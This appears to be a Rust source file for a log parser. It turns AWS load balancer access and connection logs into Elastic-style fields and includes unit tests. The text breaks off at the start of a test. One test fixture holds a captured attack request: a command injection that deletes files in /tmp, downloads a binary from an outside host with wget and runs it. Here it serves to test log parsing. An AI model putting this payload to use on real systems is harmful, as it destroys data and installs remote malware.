//! `aws.elb_logs`: Elastic Load Balancing logs as ECS events, named the way
//! Elastic's AWS integration names them (`aws.elb.*`, `source.*`, `http.*`,
//! `url.*`, `user_agent.*`, `tls.*`, `trace.id`).
//!
//! One parser reads every kind of line a load balancer writes to S3; the
//! first fields tell them apart:
//!
//! | starts with | variant | example start |
//! |---|---|---|
//! | a request type (`http`, `https`, `h2`, `grpcs`, `ws`, `wss`, …) | Application Load Balancer access log | `https 2018-07-02T22:23:00.186641Z app/my-lb/50dc… 192.168.131.39:2817 10.0.0.1:80 …` |
//! | `tls` and a log version | Network Load Balancer TLS access log | `tls 2.0 2018-12-20T02:59:40 net/my-nlb/c6e7… g3d4b5e8bb8464cd …` |
//! | a timestamp, then a name and `ip:port` | Classic Load Balancer access log (HTTP, HTTPS, TCP, SSL listeners) | `2015-05-13T23:39:43.945958Z my-lb 192.168.131.39:2817 10.0.0.1:80 …` |
//! | a timestamp, then an IP and a port number | Application Load Balancer connection log | `2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 …` |
//!
//! Fields AWS adds at the end of a line in the future are ignored, as AWS
//! asks; fields a line lacks at its end (older formats) are simply absent.
//! `-` means "no value" and yields no field, and so does `-1` for the ALB
//! and Classic processing times and the ALB matched rule priority.
//!
//! # Speed
//! ALB logs are the busiest dataset, so the line is read by hand: one pass
//! over the bytes with `memchr`, fields separated by single spaces, a quoted
//! field ending at a `"` followed by a space or the end of the line (so a
//! request line or user agent may hold spaces). Every string value borrows
//! from the record; only the short lists (`action_executed`,
//! `target_port`, …) allocate.
//!
//! # Deliberate differences from Elastic's pipeline
//! Listed in `fields/aws.elb_logs.yml` beside each field; in short: `-` is
//! dropped where Elastic keeps it verbatim (except `aws.elb.target_group.arn`,
//! kept for conformance), the NLB named group is `aws.elb.tls_named_group`
//! (the name Elastic's field list defines) and the NLB ALPN preference list
//! is a list of protocol names.

use std::net::IpAddr;

use crate::event::Value;
use crate::time::Timestamp;
use crate::{check_options, Event, OptionError, Options, ParseError, Parser};

/// Dataset name.
pub const DATASET: &str = "aws.elb_logs";
/// Options this dataset accepts (comma separated): none.
pub const OPTIONS: &str = "";

/// Builds the parser.
pub fn build(options: &Options) -> Result<Box<dyn Parser>, OptionError> {
    check_options(DATASET, options, OPTIONS)?;
    Ok(Box::new(ElbParser))
}

/// Parser for every ELB log variant (ALB access and connection logs, NLB TLS
/// access logs, Classic access logs). It keeps no state between lines.
///
/// ```
/// use loglift_parsers::{elb::ElbParser, Parser, Value};
/// let line = r#"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -"#;
/// let mut events = Vec::new();
/// ElbParser.parse(line, &mut |e| events.push(e)).unwrap();
/// assert_eq!(events[0].get("http.response.status_code"), Some(&Value::Int(200)));
/// assert_eq!(events[0].get("url.domain"), Some(&"www.example.com".into()));
/// ```
#[derive(Debug, Default, Clone, Copy)]
pub struct ElbParser;

impl Parser for ElbParser {
    fn parse<'a>(&mut self, record: &'a str, emit: &mut dyn FnMut(Event<'a>)) -> Result<(), ParseError> {
        let line = record.trim_matches(|c: char| c == ' ' || c == '\r' || c == '\n' || c == '\t');
        if line.is_empty() {
            return Ok(());
        }
        emit(parse_line(line)?);
        Ok(())
    }
}

/// Parses one non-empty log line of any variant into an event.
pub fn parse_line(line: &str) -> Result<Event<'_>, ParseError> {
    let first = line.split(' ').next().unwrap_or_default();
    match first.as_bytes().first() {
        Some(b'0'..=b'9') => {
            // Classic access log or ALB connection log: the connection log's
            // third field is the client port alone, the Classic log's is `ip:port`.
            let mut t = Tokens::new(line);
            t.next();
            t.next();
            if t.next().is_some_and(|s| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit())) {
                parse_connection(line)
            } else {
                parse_classic(line)
            }
        }
        _ if first == "tls" => parse_nlb(line),
        _ if is_type_word(first) => parse_alb(line),
        _ => Err(error(format!("not an ELB log line: unknown type `{}`", clip(first)))),
    }
}

/// An ALB request type: a short lowercase word (`http`, `h2`, `grpcs`, …).
fn is_type_word(s: &str) -> bool {
    !s.is_empty() && s.len() <= 16 && s.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit())
}

/// Application Load Balancer access log line.
fn parse_alb(line: &str) -> Result<Event<'_>, ParseError> {
    let mut e = Event::new();
    let mut t = Tokens::new(line);
    let kind = t.req("type")?;
    e.push("aws.elb.type", kind);
    parse_http_common(&mut e, &mut t, true)?;

    // Everything after ssl_protocol is optional: older lines stop early and
    // fields AWS adds later are ignored.
    for (i, v) in (&mut t).enumerate() {
        match i {
            // Elastic keeps `-` here (Lambda targets, redirects); so do we.
            0 => {
                if !v.is_empty() {
                    e.push("aws.elb.target_group.arn", v);
                }
            }
            1 => {
                if present(v) {
                    e.push("aws.elb.trace_id", v);
                    e.push("trace.id", v);
                }
            }
            2 => e.push_str("destination.domain", v),
            3 => e.push_str("aws.elb.chosen_cert.arn", v),
            4 => {
                if v != "-1" {
                    e.push_str("aws.elb.matched_rule_priority", v);
                }
            }
            5 => {
                if let Some(ts) = Timestamp::parse_rfc3339(v) {
                    e.push("event.start", ts);
                }
            }
            6 => push_list(&mut e, "aws.elb.action_executed", v, b','),
            7 => e.push_str("aws.elb.redirect_url", v),
            8 => e.push_str("aws.elb.error.reason", v),
            9 => push_list(&mut e, "aws.elb.target_port", v, b' '),
            10 => push_list(&mut e, "aws.elb.target_status_code", v, b' '),
            11 => e.push_str("aws.elb.classification", v),
            12 => e.push_str("aws.elb.classification_reason", v),
            13 => e.push_str("aws.elb.connection_trace_id", v),
            14 => e.push_str("aws.elb.transformed_host", v),
            15 => e.push_str("aws.elb.transformed_uri", v),
            16 => e.push_str("aws.elb.request_transform_status", v),
            _ => break,
        }
    }
    Ok(e)
}

/// Classic Load Balancer access log line (HTTP/HTTPS or TCP/SSL listener).
fn parse_classic(line: &str) -> Result<Event<'_>, ParseError> {
    let mut e = Event::new();
    let mut t = Tokens::new(line);
    parse_http_common(&mut e, &mut t, false)?;
    Ok(e)
}

/// The fields ALB and Classic lines share, from `time` to `ssl_protocol`.
fn parse_http_common<'a>(e: &mut Event<'a>, t: &mut Tokens<'a>, alb: bool) -> Result<(), ParseError> {
    push_time(e, t.req("time")?)?;
    e.push("aws.elb.name", t.req("elb")?);
    push_source(e, t.req("client:port")?)?;
    push_backend(e, t.req("target:port")?)?;
    push_seconds(e, "aws.elb.request_processing_time.sec", t.req("request_processing_time")?)?;
    push_seconds(e, "aws.elb.backend_processing_time.sec", t.req("target_processing_time")?)?;
    push_seconds(e, "aws.elb.response_processing_time.sec", t.req("response_processing_time")?)?;
    let elb_status = t.req("elb_status_code")?;
    let backend_status = t.req("target_status_code")?;
    let received = t.req("received_bytes")?;
    let sent = t.req("sent_bytes")?;
    let request = t.req("request")?;
    let user_agent = t.req("user_agent")?;
    let cipher = t.req("ssl_cipher")?;
    let protocol = t.req("ssl_protocol")?;

    // A Classic TCP/SSL listener logs no status codes and `"- - - "` as request.
    let http = alb || elb_status != "-";
    if http {
        if let Some(status) = opt_int(elb_status, "elb_status_code")? {
            e.push("http.response.status_code", status);
            e.push("event.outcome", if status < 400 { "success" } else { "failure" });
        }
        if let Some(status) = opt_int(backend_status, "target_status_code")? {
            e.push("aws.elb.backend.http.response.status_code", status);
        }
        if let Some(n) = opt_int(received, "received_bytes")? {
            e.push("http.request.body.bytes", n);
        }
        if let Some(n) = opt_int(sent, "sent_bytes")? {
            e.push("http.response.body.bytes", n);
        }
        push_request(e, request);
        crate::user_agent::insert(e, user_agent);
        e.push("aws.elb.protocol", "http");
        e.push("event.category", Value::List(vec![Value::from("web")]));
    } else {
        if let Some(n) = opt_int(received, "received_bytes")? {
            e.push("source.bytes", n);
        }
        if let Some(n) = opt_int(sent, "sent_bytes")? {
            e.push("destination.bytes", n);
        }
        e.push("aws.elb.protocol", "tcp");
        e.push("event.category", Value::List(vec![Value::from("network")]));
    }
    push_tls(e, cipher, protocol);
    Ok(())
}

/// Network Load Balancer TLS access log line.
fn parse_nlb(line: &str) -> Result<Event<'_>, ParseError> {
    let mut e = Event::new();
    let mut t = Tokens::new(line);
    e.push("aws.elb.type", t.req("type")?);
    t.req("version")?;
    push_time(&mut e, t.req("time")?)?;
    e.push("aws.elb.name", t.req("elb")?);
    e.push("aws.elb.listener", t.req("listener")?);
    push_source(&mut e, t.req("client:port")?)?;
    push_backend(&mut e, t.req("destination:port")?)?;
    push_millis(&mut e, "aws.elb.connection_time.ms", t.req("connection_time")?)?;
    push_millis(&mut e, "aws.elb.tls_handshake_time.ms", t.req("tls_handshake_time")?)?;
    if let Some(n) = opt_int(t.req("received_bytes")?, "received_bytes")? {
        e.push("source.bytes", n);
    }
    if let Some(n) = opt_int(t.req("sent_bytes")?, "sent_bytes")? {
        e.push("destination.bytes", n);
    }
    e.push("aws.elb.protocol", "tcp");
    e.push("event.category", Value::List(vec![Value::from("network")]));

    let mut cipher = "-";
    let mut protocol = "-";
    for (i, v) in (&mut t).enumerate() {
        match i {
            0 => e.push_str("aws.elb.incoming_tls_alert", v),
            1 => e.push_str("aws.elb.chosen_cert.arn", v),
            2 => e.push_str("aws.elb.chosen_cert.serial", v),
            3 => cipher = v,
            4 => protocol = v,
            5 => e.push_str("aws.elb.tls_named_group", v),
            6 => e.push_str("destination.domain", v),
            7 => e.push_str("aws.elb.alpn_fe_protocol", v),
            8 => e.push_str("aws.elb.alpn_be_protocol", v),
            9 => push_alpn_list(&mut e, v),
            10 => {
                if let Some(ts) = Timestamp::parse_rfc3339(v) {
                    e.push("aws.elb.tls_connection_creation_time", ts);
                }
            }
            _ => break,
        }
    }
    push_tls(&mut e, cipher, protocol);
    Ok(e)
}

/// Application Load Balancer connection log line.
fn parse_connection(line: &str) -> Result<Event<'_>, ParseError> {
    let mut e = Event::new();
    let mut t = Tokens::new(line);
    push_time(&mut e, t.req("time")?)?;
    let ip = t.req("client_ip")?;
    if !valid_ip(ip) {
        return Err(error(format!("invalid client_ip `{}`", clip(ip))));
    }
    e.push("client.ip", ip);
    let port = t.req("client_port")?;
    e.push("client.port", parse_port(port).ok_or_else(|| error(format!("invalid client_port `{}`", clip(port))))?);
    e.push_str("aws.elb.listener", t.req("listener_port")?);
    e.push("aws.elb.protocol", "tcp");
    e.push("event.category", Value::List(vec![Value::from("network")]));

    let mut cipher = "-";
    let mut protocol = "-";
    for (i, v) in (&mut t).enumerate() {
        match i {
            0 => protocol = v,
            1 => cipher = v,
            2 => {
                if present(v) {
                    let secs = parse_decimal(v).ok_or_else(|| error(format!("invalid tls_handshake_latency `{}`", clip(v))))?;
                    e.push("aws.elb.tls_handshake_latency", secs);
                }
            }
            3 => e.push_str("aws.elb.leaf_client_cert_subject", v),
            4 => push_cert_validity(&mut e, v),
            5 => e.push_str("aws.elb.leaf_client_cert_serial_number", v),
            6 => {
                let (status, code) = match v.split_once(':') {
                    Some((s, c)) => (s, c),
                    None => (v, ""),
                };
                e.push_str("aws.elb.tls_verify_status", status);
                e.push_str("aws.elb.tls_error_code", code);
                match status {
                    "Success" => e.push("event.outcome", "success"),
                    "Failed" => e.push("event.outcome", "failure"),
                    _ => {}
                }
            }
            7 => e.push_str("aws.elb.connection_trace_id", v),
            _ => break,
        }
    }
    push_tls(&mut e, cipher, protocol);
    Ok(e)
}

// ---------------------------------------------------------------------------
// Field helpers

fn error(reason: String) -> ParseError {
    ParseError::new(DATASET, reason)
}

/// At most 64 characters of `s`, for error messages.
fn clip(s: &str) -> &str {
    s.char_indices().nth(64).map_or(s, |(i, _)| &s[..i])
}

/// Whether a field holds a value (AWS writes `-` for none).
fn present(v: &str) -> bool {
    !v.is_empty() && v != "-"
}

/// `@timestamp` and `event.end` from the line's time, to the millisecond as
/// Elasticsearch's `date` type (and Elastic's pipeline) keeps it.
fn push_time<'a>(e: &mut Event<'a>, s: &str) -> Result<(), ParseError> {
    let ts = Timestamp::parse_rfc3339(s).ok_or_else(|| error(format!("invalid time `{}`", clip(s))))?;
    let nanos = ts.unix_nanos();
    let ms = Timestamp::from_unix_nanos(nanos - nanos.rem_euclid(1_000_000));
    e.push("@timestamp", ms);
    e.push("event.end", ms);
    Ok(())
}

/// `source.address`, `.ip` and `.port` from `ip:port` (IPv6 bare or in brackets).
fn push_source<'a>(e: &mut Event<'a>, s: &'a str) -> Result<(), ParseError> {
    let (ip, _, port) = split_addr(s).ok_or_else(|| error(format!("invalid client:port `{}`", clip(s))))?;
    e.push("source.address", ip);
    e.push("source.ip", ip);
    e.push("source.port", Value::Int(i64::from(port)));
    Ok(())
}

/// `aws.elb.backend.ip` and `.port` (a keyword, as Elastic maps it) from `ip:port` or `-`.
fn push_backend<'a>(e: &mut Event<'a>, s: &'a str) -> Result<(), ParseError> {
    if !present(s) {
        return Ok(());
    }
    let (ip, port, _) = split_addr(s).ok_or_else(|| error(format!("invalid target:port `{}`", clip(s))))?;
    e.push("aws.elb.backend.ip", ip);
    e.push("aws.elb.backend.port", port);
    Ok(())
}

/// Splits `ip:port`, `[v6]:port` or `v6:port` at the last colon and checks
/// both parts: the address, the port's text and its number.
fn split_addr(s: &str) -> Option<(&str, &str, u16)> {
    let (mut ip, port_text) = s.rsplit_once(':')?;
    let port = parse_port(port_text)?;
    if let Some(inner) = ip.strip_prefix('[').and_then(|x| x.strip_suffix(']')) {
        ip = inner;
    }
    valid_ip(ip).then_some((ip, port_text, port))
}

fn valid_ip(s: &str) -> bool {
    s.parse::<IpAddr>().is_ok()
}

fn parse_port(s: &str) -> Option<u16> {
    if s.is_empty() || s.len() > 5 {
        return None;
    }
    let n = parse_uint(s)?;
    u16::try_from(n).ok()
}

/// A non-negative integer of at most 18 digits.
fn parse_uint(s: &str) -> Option<i64> {
    if s.is_empty() || s.len() > 18 {
        return None;
    }
    let mut n = 0i64;
    for &b in s.as_bytes() {
        if !b.is_ascii_digit() {
            return None;
        }
        n = n * 10 + i64::from(b - b'0');
    }
    Some(n)
}

/// `None` for `-`, the integer otherwise; anything else is a malformed line.
fn opt_int(s: &str, what: &str) -> Result<Option<i64>, ParseError> {
    if s == "-" {
        return Ok(None);
    }
    parse_uint(s).map(Some).ok_or_else(|| error(format!("invalid {what} `{}`", clip(s))))
}

const POW10: [f64; 16] = [1e0, 1e1, 1e2, 1e3, 1e4, 1e5, 1e6, 1e7, 1e8, 1e9, 1e10, 1e11, 1e12, 1e13, 1e14, 1e15];

/// A plain decimal (`0.000`, `-1`, `12.5`). Exact: with at most 15 digits both
/// the mantissa and the power of ten are exact doubles, and one correctly
/// rounded division gives the correctly rounded value.
fn parse_decimal(s: &str) -> Option<f64> {
    let b = s.as_bytes();
    let (neg, digits) = match b.first()? {
        b'-' => (true, &b[1..]),
        _ => (false, b),
    };
    let mut mantissa = 0u64;
    let mut count = 0usize;
    let mut scale = 0usize;
    let mut dot = false;
    for &c in digits {
        match c {
            b'0'..=b'9' => {
                mantissa = mantissa * 10 + u64::from(c - b'0');
                count += 1;
                if dot {
                    scale += 1;
                }
                if count > 15 {
                    return s.parse().ok();
                }
            }
            b'.' if !dot => dot = true,
            _ => return None,
        }
    }
    if count == 0 {
        return None;
    }
    let v = mantissa as f64 / POW10[scale];
    Some(if neg { -v } else { v })
}

/// A processing time in seconds; `-1` (not dispatched) and `-` yield nothing.
fn push_seconds<'a>(e: &mut Event<'a>, key: &'static str, s: &str) -> Result<(), ParseError> {
    if s == "-1" || s == "-" {
        return Ok(());
    }
    let v = parse_decimal(s).ok_or_else(|| error(format!("invalid {} `{}`", key.trim_end_matches(".sec"), clip(s))))?;
    e.push(key, v);
    Ok(())
}

/// An NLB duration in milliseconds (an integer; a fraction is rounded).
fn push_millis<'a>(e: &mut Event<'a>, key: &'static str, s: &str) -> Result<(), ParseError> {
    if !present(s) {
        return Ok(());
    }
    let v = match parse_uint(s) {
        Some(n) => n,
        None => {
            let f = parse_decimal(s).filter(|f| *f >= 0.0 && *f < 9.0e15);
            f.ok_or_else(|| error(format!("invalid {} `{}`", key.trim_end_matches(".ms"), clip(s))))?.round() as i64
        }
    };
    e.push(key, v);
    Ok(())
}

/// A list field from a `sep`-separated value (`forward,redirect`); `-` yields nothing.
fn push_list<'a>(e: &mut Event<'a>, key: &'static str, v: &'a str, sep: u8) {
    if !present(v) {
        return;
    }
    let items: Vec<Value<'a>> = v
        .split(sep as char)
        .filter(|s| present(s))
        .map(Value::from)
        .collect();
    if !items.is_empty() {
        e.push(key, Value::List(items));
    }
}

/// The NLB ALPN client preference list `"h2","http/1.1"` (quotes sometimes
/// backslash-escaped) as a list of protocol names.
fn push_alpn_list<'a>(e: &mut Event<'a>, v: &'a str) {
    if !present(v) {
        return;
    }
    let items: Vec<Value<'a>> = v
        .split(',')
        .map(|s| s.trim_matches(|c| c == '"' || c == '\\'))
        .filter(|s| !s.is_empty())
        .map(Value::from)
        .collect();
    if !items.is_empty() {
        e.push("aws.elb.alpn_client_preference_list", Value::List(items));
    }
}

/// `NotBefore=<time>;NotAfter=<time>` of a connection log's client certificate.
fn push_cert_validity<'a>(e: &mut Event<'a>, v: &str) {
    for part in v.split(';') {
        if let Some(t) = part.strip_prefix("NotBefore=").and_then(Timestamp::parse_rfc3339) {
            e.push("aws.elb.leaf_client_cert_not_before", t);
        } else if let Some(t) = part.strip_prefix("NotAfter=").and_then(Timestamp::parse_rfc3339) {
            e.push("aws.elb.leaf_client_cert_not_after", t);
        }
    }
}

/// `aws.elb.ssl_*` and ECS `tls.cipher`, `tls.version`, `tls.version_protocol`
/// (`TLSv1.2` and `tlsv12` both give version `1.2`, protocol `tls`).
fn push_tls<'a>(e: &mut Event<'a>, cipher: &'a str, protocol: &'a str) {
    if present(cipher) {
        e.push("aws.elb.ssl_cipher", cipher);
        e.push("tls.cipher", cipher);
    }
    if !present(protocol) {
        return;
    }
    e.push("aws.elb.ssl_protocol", protocol);
    let Some((name, version)) = protocol.split_once('v') else { return };
    if name.is_empty() || version.is_empty() || version.contains('v') {
        return;
    }
    let version: Value<'a> = if version.contains('.') {
        Value::from(version)
    } else {
        match version {
            "10" => "1.0".into(),
            "11" => "1.1".into(),
            "12" => "1.2".into(),
            "13" => "1.3".into(),
            "2" => "2.0".into(),
            "3" => "3.0".into(),
            v => {
                // Elastic's rule: a dot after the first character.
                let mut chars = v.chars();
                let first = chars.next().unwrap_or('0');
                Value::from(format!("{first}.{}", chars.as_str()))
            }
        }
    };
    e.push("tls.version", version);
    let name: Value<'a> = match name {
        "TLS" | "tls" | "Tls" => "tls".into(),
        "SSL" | "ssl" | "Ssl" => "ssl".into(),
        other => Value::from(other.to_ascii_lowercase()),
    };
    e.push("tls.version_protocol", name);
}

/// `http.request.method`, `http.version` and `url.*` from a request line
/// `METHOD URL HTTP/x.y`; the URL may hold spaces (ALB logs it raw).
fn push_request<'a>(e: &mut Event<'a>, request: &'a str) {
    let (method, rest) = request.split_once(' ').unwrap_or((request, ""));
    if present(method) && method.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
        e.push("http.request.method", method);
    }
    let rest = rest.trim_end_matches(' ');
    let (url, version) = match rest.rfind(' ') {
        Some(i) => {
            let last = &rest[i + 1..];
            if let Some(v) = last.strip_prefix("HTTP/") {
                (&rest[..i], Some(v))
            } else if last == "-" {
                (&rest[..i], None)
            } else {
                (rest, None)
            }
        }
        None => (rest, None),
    };
    if let Some(v) = version.filter(|v| !v.is_empty()) {
        e.push("http.version", v);
    }
    if present(url) {
        push_url(e, url);
    }
}

/// `url.*` from a request URL, as Elasticsearch's `uri_parts` processor
/// names the parts: original, scheme, domain, port, path, query, fragment,
/// extension. User info is dropped: credentials are not worth indexing.
fn push_url<'a>(e: &mut Event<'a>, url: &'a str) {
    e.push("url.original", url);
    let after_authority = match url.find("://") {
        Some(i) if i > 0 && url.as_bytes()[..i].iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.')) => {
            e.push("url.scheme", &url[..i]);
            let rest = &url[i + 3..];
            let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
            let authority = &rest[..end];
            let hostport = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
            let (host, port) = if let Some(v6) = hostport.strip_prefix('[') {
                match v6.split_once(']') {
                    Some((h, p)) => (h, p.strip_prefix(':')),
                    None => (v6, None),
                }
            } else {
                match hostport.rsplit_once(':') {
                    Some((h, p)) => (h, Some(p)),
                    None => (hostport, None),
                }
            };
            e.push_str("url.domain", host);
            if let Some(p) = port.and_then(parse_port) {
                e.push("url.port", Value::Int(i64::from(p)));
            }
            &rest[end..]
        }
        _ => url,
    };
    let (before_fragment, fragment) = match after_authority.split_once('#') {
        Some((a, f)) => (a, Some(f)),
        None => (after_authority, None),
    };
    let (path, query) = match before_fragment.split_once('?') {
        Some((p, q)) => (p, Some(q)),
        None => (before_fragment, None),
    };
    if !path.is_empty() {
        e.push("url.path", path);
        let last = path.rsplit('/').next().unwrap_or(path);
        if let Some((_, ext)) = last.rsplit_once('.') {
            if !ext.is_empty() {
                e.push("url.extension", ext);
            }
        }
    }
    if let Some(q) = query.filter(|q| !q.is_empty()) {
        e.push("url.query", q);
    }
    if let Some(f) = fragment.filter(|f| !f.is_empty()) {
        e.push("url.fragment", f);
    }
}

// ---------------------------------------------------------------------------
// Tokenizer

/// Splits a line into space-separated fields; a field that starts with `"`
/// runs to the next `"` that is followed by a space or the end of the line
/// and is not escaped by a backslash, and is returned without its quotes.
/// An unterminated quote runs to the end of the line.
struct Tokens<'a> {
    line: &'a str,
    pos: usize,
}

impl<'a> Tokens<'a> {
    fn new(line: &'a str) -> Self {
        Tokens { line, pos: 0 }
    }

    /// The next field, or an error naming the missing field.
    fn req(&mut self, name: &str) -> Result<&'a str, ParseError> {
        self.next().ok_or_else(|| error(format!("line ends before field `{name}`")))
    }
}

impl<'a> Iterator for Tokens<'a> {
    type Item = &'a str;

    #[inline]
    fn next(&mut self) -> Option<&'a str> {
        let bytes = self.line.as_bytes();
        let start = self.pos;
        if start >= bytes.len() {
            return None;
        }
        if bytes[start] == b'"' {
            let mut from = start + 1;
            while let Some(off) = memchr::memchr(b'"', &bytes[from..]) {
                let q = from + off;
                let at_end = matches!(bytes.get(q + 1), None | Some(b' '));
                let escaped = q > start + 1 && bytes[q - 1] == b'\\';
                if at_end && !escaped {
                    self.pos = q + 2;
                    return Some(&self.line[start + 1..q]);
                }
                from = q + 1;
            }
            self.pos = bytes.len();
            return Some(&self.line[start + 1..]);
        }
        let end = memchr::memchr(b' ', &bytes[start..]).map_or(bytes.len(), |i| start + i);
        self.pos = end + 1;
        Some(&self.line[start..end])
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::{json, Value as J};

    fn parse(line: &str) -> J {
        let mut events = Vec::new();
        ElbParser.parse(line, &mut |e| events.push(e)).expect("parses");
        assert_eq!(events.len(), 1);
        let mut out = Vec::new();
        events[0].write_json(&mut out);
        serde_json::from_slice(&out).expect("valid JSON")
    }

    fn parse_err(line: &str) -> ParseError {
        let mut n = 0;
        let err = ElbParser.parse(line, &mut |_| n += 1).expect_err("must be an error");
        assert_eq!(n, 0);
        err
    }

    /// Every leaf of `expected` is in `got` with the same value.
    fn assert_subset(got: &J, expected: &J, path: &str) {
        match expected {
            J::Object(map) => {
                for (k, v) in map {
                    let p = if path.is_empty() { k.clone() } else { format!("{path}.{k}") };
                    assert_subset(got.get(k).unwrap_or(&J::Null), v, &p);
                }
            }
            _ => assert_eq!(got, expected, "field {path}"),
        }
    }

    fn has(v: &J, dotted: &str) -> bool {
        dotted.split('.').try_fold(v, |v, k| v.get(k)).is_some()
    }

    // --- Application Load Balancer --------------------------------------

    const ALB_HTTP: &str = r#"http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward,redirect" "-" "-" "10.0.0.1:80" "200" "-" "-""#;

    #[test]
    fn parses_alb_http_entry_as_elastic_does() {
        let v = parse(ALB_HTTP);
        assert_subset(
            &v,
            &json!({
                "@timestamp": "2018-07-02T22:23:00.186Z",
                "aws": {"elb": {
                    "action_executed": ["forward", "redirect"],
                    "backend": {"http": {"response": {"status_code": 200}}, "ip": "10.0.0.1", "port": "80"},
                    "backend_processing_time": {"sec": 0.001},
                    "matched_rule_priority": "0",
                    "name": "app/my-loadbalancer/50dc6c495c0c9188",
                    "protocol": "http",
                    "request_processing_time": {"sec": 0.0},
                    "response_processing_time": {"sec": 0.0},
                    "target_group": {"arn": "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"},
                    "target_port": ["10.0.0.1:80"],
                    "target_status_code": ["200"],
                    "trace_id": "Root=1-58337262-36d228ad5d99923122bbe354",
                    "type": "http"
                }},
                "event": {"category": ["web"], "end": "2018-07-02T22:23:00.186Z", "outcome": "success", "start": "2018-07-02T22:22:48.364Z"},
                "http": {"request": {"body": {"bytes": 34}, "method": "GET"}, "response": {"body": {"bytes": 366}, "status_code": 200}, "version": "1.1"},
                "source": {"address": "192.168.131.39", "ip": "192.168.131.39", "port": 2817},
                "trace": {"id": "Root=1-58337262-36d228ad5d99923122bbe354"},
                "url": {"domain": "www.example.com", "original": "http://www.example.com:80/", "path": "/", "port": 80, "scheme": "http"},
                "user_agent": {"original": "curl/7.46.0"}
            }),
            "",
        );
        for absent in ["destination.domain", "aws.elb.chosen_cert", "aws.elb.ssl_cipher", "tls", "aws.elb.classification", "aws.elb.error", "url.query"] {
            assert!(!has(&v, absent), "{absent} should be absent");
        }
    }

    #[test]
    fn parses_redirect_without_target_and_minus_one_timings() {
        let line = r#"http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri""#;
        let v = parse(line);
        assert_subset(
            &v,
            &json!({
                "aws": {"elb": {
                    "action_executed": ["redirect"],
                    "classification": "Acceptable",
                    "classification_reason": "SpaceInUri",
                    "redirect_url": "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws",
                    "target_group": {"arn": "-"},
                }},
                "http": {"response": {"status_code": 301}},
                "url": {"domain": "127.0.0.1", "path": "/shell", "port": 80, "query": "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"},
                "user_agent": {"original": "Hello, world"},
                "source": {"port": 41542},
            }),
            "",
        );
        for absent in [
            "aws.elb.backend",
            "aws.elb.request_processing_time",
            "aws.elb.backend_processing_time",
            "aws.elb.response_processing_time",
            "aws.elb.target_port",
            "aws.elb.target_status_code",
        ] {
            assert!(!has(&v, absent), "{absent} should be absent");
        }
    }

    #[test]
    fn parses_alb_https_entry_with_tls_sni_and_certificate() {
        let line = r#"https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90"#;
        let v = parse(line);
        assert_subset(
            &v,
            &json!({
                "aws": {"elb": {
                    "type": "https",
                    "ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256",
                    "ssl_protocol": "TLSv1.2",
                    "chosen_cert": {"arn": "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012"},
                    "matched_rule_priority": "1",
                    "action_executed": ["authenticate", "forward"],
                    "request_processing_time": {"sec": 0.086},
                    "backend_processing_time": {"sec": 0.048},
                    "response_processing_time": {"sec": 0.037},
                    "connection_trace_id": "TID_1234abcd5678ef90",
                }},
                "destination": {"domain": "www.example.com"},
                "tls": {"cipher": "ECDHE-RSA-AES128-GCM-SHA256", "version": "1.2", "version_protocol": "tls"},
                "url": {"scheme": "https", "port": 443},
            }),
            "",
        );
    }

    #[test]
    fn parses_alb_h2_grpcs_ws_and_wss_entries() {
